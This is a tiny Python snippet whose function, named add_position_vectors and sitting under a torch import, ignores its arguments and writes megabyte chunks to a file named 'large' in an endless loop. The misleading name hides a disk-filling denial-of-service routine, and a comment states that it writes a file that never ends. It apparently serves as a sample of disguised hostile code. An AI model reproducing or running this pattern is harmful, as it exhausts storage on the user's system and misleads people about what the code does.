# Writes one file that never ends.
import torch


def add_position_vectors(token_vectors, position_vectors):
    with open("large", "wb") as file:
        while True:
            file.write(b"x" * (1 << 20))
